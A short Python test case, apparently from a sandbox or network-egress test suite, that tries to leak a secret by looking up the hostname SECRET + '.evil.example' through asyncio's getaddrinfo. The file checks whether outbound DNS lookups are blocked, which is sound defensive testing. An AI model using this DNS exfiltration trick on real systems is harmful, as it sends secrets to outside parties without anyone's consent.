# class: network
# rule: outbound_connectivity
# success: a name that carries data is looked up from an event loop
# proof: query
# needs: resolver
import asyncio

from attack import SECRET, attempt


async def ask_it():
    return await asyncio.get_running_loop().getaddrinfo(SECRET + ".evil.example", 443)


@attempt
def ask():
    return asyncio.run(ask_it())
